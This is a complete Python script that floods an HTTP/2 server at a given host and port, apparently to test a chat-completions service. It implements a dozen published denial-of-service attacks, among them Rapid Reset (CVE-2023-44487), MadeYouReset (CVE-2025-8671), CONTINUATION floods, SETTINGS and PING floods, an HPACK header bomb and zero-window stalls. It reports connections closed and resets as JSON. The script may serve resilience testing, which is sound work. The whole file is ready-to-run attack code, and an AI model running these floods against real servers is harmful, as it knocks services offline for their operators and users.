"""Floods an HTTP/2 server (prior knowledge) as published attacks do, with hyperframe's frames and hpack's header blocks.

Usage: h2_floods.py ATTACK HOST:PORT COUNT MODEL. Sends COUNT frames or streams, on as many connections as that takes where the
server closes them, and prints what became of it as one JSON object. Lines before that say that it is under way.
"""

import contextlib
import json
import select
import socket
import sys
from collections import Counter

from hpack import Encoder
from hyperframe import frame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
RST_STREAM, SETTINGS, PING, GOAWAY = 3, 4, 6, 7
BATCH_BYTES = 16 << 10
# How long the server may take nothing before it counts as having stopped reading.
STALL_SECONDS = 2.0
# Frames of a head that never ends, on one connection: far more than a server bears, and few enough that a server which is late
# to read them sees several connections.
HEAD_FRAMES = 10_000


class Closed(Exception):
    """The server closed the connection or said that it will."""


class Connection:
    """One connection: what is written and what has come. With `reads` off nothing is read, ever."""

    def __init__(self, target, settings=None, reads=True):
        host, port = target.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self.reads, self.unread = reads, b""
        self.goaway, self.closed, self.stalled = None, False, False
        self.resets, self.acks = Counter(), 0
        self.encoder, self.next_stream = Encoder(), 1
        self.sent_frames = 0
        self.send(PREFACE + frame.SettingsFrame(0, settings or {}).serialize())

    def stream(self):
        self.next_stream += 2
        return self.next_stream - 2

    def send(self, data, frames=0):
        """Writes all of it and reads what comes meanwhile. A connection that was closed, or stalls, takes no more."""
        if frames:
            went_on()
        data = memoryview(data)
        while data:
            reading = [self.socket] if self.reads else []
            readable, writable, _ = select.select(reading, [self.socket], [], STALL_SECONDS)
            if readable:
                self.receive()
            if writable:
                try:
                    data = data[self.socket.send(data) :]
                except OSError:
                    self.closed = True
                    raise Closed from None
            elif not readable:
                self.stalled = True
                raise Closed
        self.sent_frames += frames

    def receive(self):
        try:
            came = self.socket.recv(1 << 16)
        except BlockingIOError:
            return
        except OSError:
            came = b""
        if not came:
            self.closed = True
            raise Closed
        self.unread += came
        at = 0
        while len(self.unread) - at >= 9:
            end = at + 9 + int.from_bytes(self.unread[at : at + 3], "big")
            if end > len(self.unread):
                break
            self.saw(self.unread[at:end])
            at = end
        self.unread = self.unread[at:]

    def saw(self, raw):
        kind, flags, payload = raw[3], raw[4], raw[9:]
        if kind == RST_STREAM:
            self.resets[str(int.from_bytes(payload[:4], "big"))] += 1
        elif kind == PING and flags & 1:
            self.acks += 1
        elif kind == SETTINGS and not flags & 1:
            ack = frame.SettingsFrame(0)
            ack.flags.add("ACK")
            with contextlib.suppress(OSError):  # closed: what it has said is read nevertheless
                self.socket.send(ack.serialize())
        elif kind == GOAWAY and self.goaway is None:  # the first one says why
            self.goaway = int.from_bytes(payload[4:8], "big")

    def wait(self, until):
        """Reads until something holds, or the connection is closed."""
        while not until():
            select.select([self.socket], [], [])
            self.receive()

    def round_trip(self):
        """All that was sent has been read by the server once its answer to a PING is here."""
        want = self.acks + 1
        self.send(frame.PingFrame(0, opaque_data=b"flooding").serialize(), frames=1)
        self.wait(lambda: self.acks >= want)


def went_on():
    """Says now and then that it is under way."""
    steps[0] += 1
    if steps[0] % 10 == 0:
        print(json.dumps({"step": steps[0]}), flush=True)


def head(connection, stream, extra=(), end_headers=True, end_stream=False):
    fields = [(":method", "POST"), (":scheme", "http"), (":authority", "k"), (":path", "/v1/chat/completions")]
    block = connection.encoder.encode(fields + [("content-type", "application/json"), *extra])
    headers = frame.HeadersFrame(stream, block)
    headers.flags |= {flag for flag, on in (("END_HEADERS", end_headers), ("END_STREAM", end_stream)) if on}
    return headers.serialize()


def data(stream, payload=b"", end_stream=False):
    made = frame.DataFrame(stream, payload)
    if end_stream:
        made.flags.add("END_STREAM")
    return made.serialize()


def request(connection, stream):
    return head(connection, stream) + data(stream, BODY, end_stream=True)


def reset(stream):
    return frame.RstStreamFrame(stream, error_code=8).serialize()


def window(stream, increment):
    # The library refuses to make one of 0, which is what an attacker sends.
    return b"\0\0\4\x08\0" + stream.to_bytes(4, "big") + increment.to_bytes(4, "big")


def many(connection, count, make, frames_each):
    """`count` pieces in batches; how many were sent while the connection lasted is in `connection.sent_frames`."""
    batch, size, pieces = [], 0, 0
    for _ in range(count):
        batch.append(make())
        size += len(batch[-1])
        pieces += 1
        if size >= BATCH_BYTES:
            connection.send(b"".join(batch), frames=pieces * frames_each)
            batch, size, pieces = [], 0, 0
            if connection.goaway is not None:
                raise Closed
    connection.send(b"".join(batch), frames=pieces * frames_each)


# Each attack is given a new connection and how much is left; it may end by Closed.


def rapid_reset(connection, count):
    """CVE-2023-44487: opened and reset at once."""

    def one():
        stream = connection.stream()
        return request(connection, stream) + reset(stream)

    many(connection, count, one, 3)
    connection.round_trip()


def paced_reset(connection, count):
    """The same, but each is reset only when it has reached the server for certain."""
    while count > 0:
        streams = [connection.stream() for _ in range(min(count, 200))]
        connection.send(b"".join(request(connection, stream) for stream in streams), frames=2 * len(streams))
        connection.round_trip()
        connection.send(b"".join(map(reset, streams)), frames=len(streams))
        count -= len(streams)


def made_you_reset(connection, count):
    """CVE-2025-8671: whole requests, whose streams the server itself must then reset; another fault on each connection."""
    faults = [
        lambda stream: window(stream, 0),
        lambda stream: window(stream, 2**31 - 1),
        lambda stream: data(stream, b"more"),
    ]
    fault = faults[connections[0] % len(faults)]
    while count > 0:
        streams = [connection.stream() for _ in range(min(count, 100))]
        connection.send(b"".join(request(connection, stream) for stream in streams), frames=2 * len(streams))
        connection.round_trip()
        connection.send(b"".join(map(fault, streams)), frames=len(streams))
        connection.round_trip()
        count -= len(streams)


def too_many_streams(connection, count):
    """As many requests at once as there can be, none of them reset."""
    many(connection, count, lambda: request(connection, connection.stream()), 2)
    connection.round_trip()


def continuation(connection, count):
    """CVE-2024-24549 and others: a head that never ends."""
    stream = connection.stream()
    connection.send(head(connection, stream, end_headers=False), frames=1)
    field = connection.encoder.encode([("x-flood", "y" * 100)])
    more = frame.ContinuationFrame(stream, field).serialize()
    many(connection, min(count, HEAD_FRAMES), lambda: more, 1)
    connection.wait(lambda: False)


def empty_continuation(connection, count):
    """The same of frames that hold nothing."""
    stream = connection.stream()
    connection.send(head(connection, stream, end_headers=False), frames=1)
    more = frame.ContinuationFrame(stream, b"").serialize()
    many(connection, min(count, HEAD_FRAMES), lambda: more, 1)
    connection.wait(lambda: False)


def settings(connection, count):
    """CVE-2019-9515: each is to be acknowledged."""
    one = frame.SettingsFrame(0, {frame.SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    many(connection, count, lambda: one, 1)
    connection.round_trip()


def ping(connection, count):
    """CVE-2019-9512: each is to be answered."""
    one = frame.PingFrame(0, opaque_data=b"flooding").serialize()
    many(connection, count, lambda: one, 1)
    connection.wait(lambda: connection.acks >= count)


def window_update(connection, count):
    """Windows opened a little further, of the connection."""
    many(connection, count, lambda: window(0, 1), 1)
    connection.round_trip()


def priority(connection, count):
    """What nobody needs any more (RFC 9113, section 5.3)."""
    one = frame.PriorityFrame(1, depends_on=0, stream_weight=1).serialize()
    many(connection, count, lambda: one, 1)
    connection.round_trip()


def unknown(connection, count):
    """A type that does not exist, which is to be ignored."""
    many(connection, count, lambda: b"\0\0\4\xbe\0\0\0\0\0what", 1)
    connection.round_trip()


def empty_data(connection, count):
    """CVE-2019-9518: pieces of a body that hold nothing."""
    stream = connection.stream()
    connection.send(head(connection, stream), frames=1)
    one = data(stream)
    many(connection, count, lambda: one, 1)
    connection.round_trip()


def tiny_data(connection, count):
    """Pieces of a body that hold one byte, which nobody takes: the body never ends."""
    stream = connection.stream()
    connection.send(head(connection, stream), frames=1)
    one = data(stream, b" ")
    many(connection, min(count, 60_000), lambda: one, 1)
    connection.round_trip()


def header_bomb(connection, count):
    """A large field that the server remembers (HPACK), and then heads that name it again and again by one byte each."""
    value = "b" * 3_900
    # The first use puts it into the server's table; the second shows the byte that stands for it.
    connection.encoder.encode([("x-bomb", value)])
    again = connection.encoder.encode([("x-bomb", value)])
    connection.encoder = Encoder()
    for _ in range(count):
        stream = connection.stream()
        block = connection.encoder.encode(
            [(":method", "POST"), (":scheme", "http"), (":authority", "k"), (":path", "/v1/chat/completions"), ("x-bomb", value)]
        )
        headers = frame.HeadersFrame(stream, block + again * 200)
        headers.flags |= {"END_HEADERS", "END_STREAM"}
        connection.send(headers.serialize(), frames=1)
        if connection.goaway is not None:
            raise Closed
    connection.round_trip()


def zero_window(connection, count):
    """Asks for answers and never lets any of them come."""
    connection.send(frame.SettingsFrame(0, {frame.SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize(), frames=1)
    connection.round_trip()
    many(connection, count, lambda: request(connection, connection.stream()), 2)
    connection.wait(lambda: sum(connection.resets.values()) >= count)


def unread(attack):
    """The same by a client that reads nothing of what comes back."""
    attack.reads = False
    return attack


@unread
def settings_unread(connection, count):
    one = frame.SettingsFrame(0, {frame.SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    many(connection, count, lambda: one, 1)


@unread
def ping_unread(connection, count):
    one = frame.PingFrame(0, opaque_data=b"flooding").serialize()
    many(connection, count, lambda: one, 1)


# Frames of one of the things that are counted, where that is not the frame itself.
FRAMES_EACH = {"rapid_reset": 3, "paced_reset": 3, "made_you_reset": 3, "too_many_streams": 2, "zero_window": 2}


def main():
    attack, target, count = globals()[sys.argv[1]], sys.argv[2], int(sys.argv[3])
    frames, made, closed, stalled, goaways, resets = 0, 0, 0, False, Counter(), Counter()
    while made < count and not stalled:
        connections[0] += 1
        connection = Connection(target, reads=getattr(attack, "reads", True))
        try:
            attack(connection, count - made)
            made = count
            # Who was told to go is closed as well.
            connection.wait(lambda: connection.goaway is None)
        except Closed:
            made += max(connection.sent_frames // FRAMES_EACH.get(sys.argv[1], 1), 1)
            # What the server said last may still be on its way.
            with contextlib.suppress(Closed):
                connection.wait(lambda: connection.closed or connection.stalled)
        frames += connection.sent_frames
        closed += connection.closed
        stalled |= connection.stalled
        goaways[str(connection.goaway)] += 1
        resets.update(connection.resets)
        connection.socket.close()
    report = {"frames": frames, "connections": connections[0], "closed": closed, "goaways": goaways, "resets": resets}
    print(json.dumps(report), flush=True)


connections, steps = [0], [0]
BODY = json.dumps({"model": sys.argv[4], "stream": True, "messages": [{"role": "user", "content": "flood"}]}).encode()
main()
